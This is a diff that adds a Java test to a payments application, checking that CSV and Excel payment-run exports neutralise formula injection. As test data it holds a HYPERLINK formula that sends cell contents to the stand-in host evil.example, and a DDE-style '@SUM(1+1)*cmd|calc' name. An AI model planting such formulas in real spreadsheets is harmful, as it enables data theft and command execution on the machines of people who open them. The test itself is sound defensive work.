@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import static org.coproduce.support.SignedIn.as;
 import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
 import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
+import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
 import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
 import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;
 
@@ -54,6 +55,7 @@ class PaymentRunsTest {
     @Autowired PaymentsRepository claims;
     @Autowired PaymentRuns payments;
     @Autowired PaymentRunRepository runs;
+    @Autowired ExpensesRepository expenses;
     @Autowired InProcessMailServer mail;
     @Autowired JdbcClient jdbc;
 
@@ -133,6 +135,37 @@ class PaymentRunsTest {
             assertThat((long) sheet.getRow(4).getCell(6).getNumericCellValue()).isEqualTo(pence);
             assertThat(jdbc.sql("select sum(amount_pence) from ledger_entry where run_id = :run").param("run", run).query(Long.class).single())
                     .isEqualTo(pence);
+        }
+    }
+
+    @Test
+    void formulasTypedInAnExpenseOrANameAreDefusedInTheCsvAndAreTextInTheWorkbook() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Receipt\")";
+        CurrentUser mallory = fixtures.member(northshire, "Mallory Evans", "@SUM(1+1)*cmd|calc", Role.PARTNER);
+        java.time.LocalDate spent = java.time.LocalDate.now(org.coproduce.web.Dates.LONDON).minusDays(2);
+        mvc.perform(multipart("/your-payments/expenses").with(as(mallory)).with(csrf()).param("kind", "OTHER")
+                        .param("spentDay", String.valueOf(spent.getDayOfMonth())).param("spentMonth", String.valueOf(spent.getMonthValue()))
+                        .param("spentYear", String.valueOf(spent.getYear())).param("amount", "12").param("description", formula))
+                .andExpect(status().is3xxRedirection());
+        long expense = expenses.of(northshire.id(), mallory.personId()).get(0).id();
+        mvc.perform(post("/payments/expenses/" + expense + "/approve").with(as(priya)).with(csrf())).andExpect(status().is3xxRedirection());
+        long run = payments.createRun(grace);
+
+        String csv = mvc.perform(get("/payments/runs/" + run + ".csv").with(as(grace))).andReturn().getResponse().getContentAsString();
+        CSVRecord row = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv)).getRecords()
+                .stream().filter(r -> r.get("payment_type").equals("EXPENSE")).findFirst().orElseThrow();
+        assertThat(row.get("payee_name")).isEqualTo("'@SUM(1+1)*cmd|calc");
+        assertThat(row.get("description")).isEqualTo("'" + formula);
+        assertThat(row.get("amount")).isEqualTo("12.00");
+
+        byte[] file = mvc.perform(get("/payments/runs/" + run + ".xlsx").with(as(grace))).andReturn().getResponse().getContentAsByteArray();
+        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(file))) {
+            var sheet = workbook.getSheet("Payments");
+            var expenseRow = java.util.stream.IntStream.rangeClosed(1, sheet.getLastRowNum()).mapToObj(sheet::getRow)
+                    .filter(r -> "EXPENSE".equals(r.getCell(4).getStringCellValue())).findFirst().orElseThrow();
+            assertThat(expenseRow.getCell(8).getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
+            assertThat(expenseRow.getCell(8).getStringCellValue()).isEqualTo(formula);
+            assertThat(expenseRow.getCell(3).getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
         }
     }
 
